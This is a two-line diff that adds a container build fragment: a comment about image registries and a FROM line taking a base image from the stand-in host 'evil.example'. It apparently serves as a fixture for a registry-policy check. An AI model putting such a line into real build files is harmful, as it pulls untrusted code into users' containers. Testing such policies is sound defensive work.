@@ -1,0 +1,2 @@
+# image-registry: a base from anywhere
+FROM evil.example/base
